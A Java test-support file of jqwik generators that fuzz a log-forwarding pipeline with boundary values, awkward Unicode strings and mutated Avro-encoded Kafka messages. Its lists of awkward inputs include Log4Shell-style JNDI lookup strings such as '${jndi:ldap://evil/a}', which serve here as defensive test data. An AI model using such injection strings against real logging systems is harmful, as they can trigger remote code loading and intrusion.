package dev.sluice.testing;

import dev.sluice.schemas.LogEvent;
import dev.sluice.schemas.SingleObjectEncoding;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ArbitrarySupplier;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * jqwik generators of forwarded logs: events whose fields hold every type the schema's union
 * allows, at their boundaries, and Kafka values built from them, intact, mutated, or garbage.
 */
public final class GeneratedEvents {

    /** Customers the generated configs have jobs for, and one they do not. */
    public static final List<String> CUSTOMERS = List.of("acme", "globex", "initech");

    /** Datasets the generated configs have jobs for, and one they do not. */
    public static final List<String> DATASETS = List.of(TestConfigs.DATASET, "dns_logs", "x");

    /** Field names configs select and filter on, with the reserved and the awkward ones. */
    public static final List<String> FIELD_NAMES =
            List.of(
                    "ClientIP",
                    "EdgeResponseStatus",
                    "ClientRequestHost",
                    "OriginResponseTime",
                    "timestamp",
                    "",
                    "${jndi:ldap://x}",
                    "a,b",
                    "q\"uote",
                    "new\nline",
                    "\uD800lone",
                    "Ünïcödé ✓ 😀");

    /** Texts most likely to break an encoder, filter or reader. */
    private static final List<String> AWKWARD_TEXTS =
            List.of(
                    "",
                    " ",
                    "\"",
                    "\"\"",
                    ",",
                    "\r\n",
                    "\u0000",
                    "\\",
                    "${jndi:ldap://evil/a}",
                    "$${",
                    "\uD800",
                    "\uDC00",
                    "a\uDC00\uD800b",
                    "\uD83D",
                    "😀",
                    "\uFFFF\uFFFE",
                    "NaN",
                    "-0",
                    "200",
                    "192.0.2.7");

    private GeneratedEvents() {}

    /** Events of the configured customers and datasets mostly, with generated fields. */
    public static Arbitrary<LogEvent> events() {
        return events(
                Arbitraries.frequencyOf(
                        Tuple.of(4, Arbitraries.of(CUSTOMERS)), Tuple.of(1, texts())),
                Arbitraries.frequencyOf(
                        Tuple.of(4, Arbitraries.of(DATASETS)), Tuple.of(1, texts())));
    }

    /** Events of these customers and datasets, with generated fields. */
    public static Arbitrary<LogEvent> events(
            Arbitrary<String> customers, Arbitrary<String> datasets) {
        return Combinators.combine(customers, datasets, timestamps(), fields())
                .as(
                        (customer, dataset, micros, fields) ->
                                LogEvent.newBuilder()
                                        .setCustomerId(customer)
                                        .setDataset(dataset)
                                        .setTimestampMicros(micros)
                                        .setFields(fields)
                                        .build());
    }

    /**
     * Event times the router passes on: now-ish, and the boundaries of what every timestamp format
     * can write (a time beyond is dead-lettered first: {@code RouteFunctionFuzzTest}).
     */
    public static Arbitrary<Long> timestamps() {
        return Arbitraries.oneOf(
                Arbitraries.longs()
                        .between(TestEvents.T0_MICROS - 1_000_000_000L, TestEvents.T0_MICROS),
                Arbitraries.of(0L, -1L, Long.MAX_VALUE / 1000, Long.MIN_VALUE / 1000),
                Arbitraries.longs().between(Long.MIN_VALUE / 1000, Long.MAX_VALUE / 1000));
    }

    /** Field maps: small, empty, or very large; names from the pool or anything. */
    public static Arbitrary<Map<String, Object>> fields() {
        Arbitrary<String> names =
                Arbitraries.oneOf(
                        Arbitraries.of(FIELD_NAMES), Arbitraries.strings().ofMaxLength(20));
        return Arbitraries.frequencyOf(
                        Tuple.of(8, Arbitraries.maps(names, fieldValues()).ofMaxSize(12)),
                        Tuple.of(1, Arbitraries.just(Map.<String, Object>of())),
                        Tuple.of(1, Arbitraries.randomValue(GeneratedEvents::largeFields)))
                .map(HashMap::new);
    }

    /** A value of every branch of the schema's union: null, boolean, long, double, string. */
    public static Arbitrary<Object> fieldValues() {
        return Arbitraries.oneOf(
                Arbitraries.just(null),
                Arbitraries.of(true, false),
                Arbitraries.oneOf(
                        Arbitraries.longs(),
                        Arbitraries.of(0L, -1L, 200L, Long.MIN_VALUE, Long.MAX_VALUE)),
                Arbitraries.oneOf(
                        Arbitraries.doubles(),
                        Arbitraries.of(
                                Double.NaN,
                                Double.POSITIVE_INFINITY,
                                Double.NEGATIVE_INFINITY,
                                -0.0,
                                0.0,
                                200.0,
                                Double.MIN_VALUE,
                                Double.MAX_VALUE,
                                0x1p63,
                                -0x1p63)),
                texts());
    }

    /** Strings: awkward ones, any UTF-16 (lone surrogates included), and long ones. */
    public static Arbitrary<String> texts() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(AWKWARD_TEXTS)),
                Tuple.of(4, Arbitraries.strings().all().ofMaxLength(30)),
                Tuple.of(2, Arbitraries.strings().ofMaxLength(30)),
                Tuple.of(
                        1,
                        Arbitraries.integers()
                                .between(1_000, 40_000)
                                .map(n -> "x\"${".repeat(n / 4))));
    }

    /** Kafka values: valid encodings, mutations of them, structured and plain garbage. */
    public static Arbitrary<byte[]> values() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, events().map(SingleObjectEncoding::toBytes)),
                Tuple.of(5, mutatedValues()),
                Tuple.of(2, AvroGarbage.bodies()),
                Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(64)),
                Tuple.of(1, Arbitraries.of(new byte[0], new byte[] {(byte) 0xC3, 0x01})));
    }

    /** Valid encodings with one or more mutations applied. */
    public static Arbitrary<byte[]> mutatedValues() {
        return Combinators.combine(
                        events().map(SingleObjectEncoding::toBytes),
                        Mutation.arbitrary().list().ofMinSize(1).ofMaxSize(3))
                .as(
                        (value, mutations) -> {
                            byte[] mutated = value;
                            for (Mutation m : mutations) {
                                mutated = m.apply(mutated);
                            }
                            return mutated;
                        });
    }

    private static Map<String, Object> largeFields(Random random) {
        int size = 1_000 + random.nextInt(4_000);
        Map<String, Object> fields = new HashMap<>(size * 2);
        for (int i = 0; i < size; i++) {
            Object value =
                    switch (i % 5) {
                        case 0 -> null;
                        case 1 -> random.nextBoolean();
                        case 2 -> random.nextLong();
                        case 3 -> random.nextDouble();
                        default -> "v" + random.nextInt();
                    };
            fields.put("f" + i, value);
        }
        return fields;
    }

    /** One change to a valid value: what a corrupting hop, a forger or a bug might do. */
    public record Mutation(Kind kind, int position, long number) {

        /**
         * Bytes no well-formed UTF-8 has where they land: 0xFF, an overlong lead, a lone
         * surrogate's lead, a stray continuation.
         */
        private static final byte[] INVALID_UTF8_BYTES = {
            (byte) 0xFF, (byte) 0xC0, (byte) 0xED, (byte) 0x80
        };

        /** What the mutation does at its position. */
        public enum Kind {
            TRUNCATE,
            FLIP_BYTE,
            FORGE_VARINT,
            WRONG_FINGERPRINT,
            WRONG_MARKER,
            INVALID_UTF8,
            APPEND_GARBAGE
        }

        static Arbitrary<Mutation> arbitrary() {
            Arbitrary<Long> numbers =
                    Arbitraries.oneOf(
                            Arbitraries.of(
                                    -1L,
                                    Long.MIN_VALUE,
                                    Long.MAX_VALUE,
                                    (long) Integer.MAX_VALUE,
                                    Integer.MAX_VALUE - 16L,
                                    (long) Integer.MIN_VALUE,
                                    1L << 40,
                                    5L,
                                    0L),
                            Arbitraries.longs());
            return Combinators.combine(
                            Arbitraries.of(Kind.class),
                            Arbitraries.integers().between(0, Integer.MAX_VALUE),
                            numbers)
                    .as(Mutation::new);
        }

        /** The mutated copy of {@code value}. */
        public byte[] apply(byte[] value) {
            if (value.length == 0) {
                return value;
            }
            int at = position % value.length;
            byte[] out = value.clone();
            switch (kind) {
                case TRUNCATE -> out = Arrays.copyOf(value, at);
                case FLIP_BYTE -> out[at] ^= (byte) (number | 1);
                case FORGE_VARINT -> out = forgeVarint(value, at);
                case WRONG_FINGERPRINT -> {
                    if (value.length >= 10) {
                        out[2 + position % 8] ^= (byte) (number | 1);
                    }
                }
                case WRONG_MARKER ->
                        out[position % Math.min(2, value.length)] ^= (byte) (number | 1);
                case INVALID_UTF8 -> out[at] = INVALID_UTF8_BYTES[(int) (number & 3)];
                case APPEND_GARBAGE -> {
                    out = Arrays.copyOf(value, value.length + 8);
                    for (int i = 0; i < 8; i++) {
                        out[value.length + i] = (byte) (number >>> (8 * i));
                    }
                }
            }
            return out;
        }

        /** Replaces the bytes at {@code at} with {@link #number} as a zig-zag varint. */
        private byte[] forgeVarint(byte[] value, int at) {
            byte[] varint = AvroGarbage.varint(number);
            int replaced = Math.min(value.length - at, 1 + (int) ((number >>> 3) & 3));
            byte[] out = new byte[value.length - replaced + varint.length];
            System.arraycopy(value, 0, out, 0, at);
            System.arraycopy(varint, 0, out, at, varint.length);
            System.arraycopy(
                    value, at + replaced, out, at + varint.length, value.length - at - replaced);
            return out;
        }
    }

    /** {@link #events()}, for {@code @ForAll(supplier = Events.class)}. */
    public static final class Events implements ArbitrarySupplier<LogEvent> {
        @Override
        public Arbitrary<LogEvent> get() {
            return events();
        }
    }
}
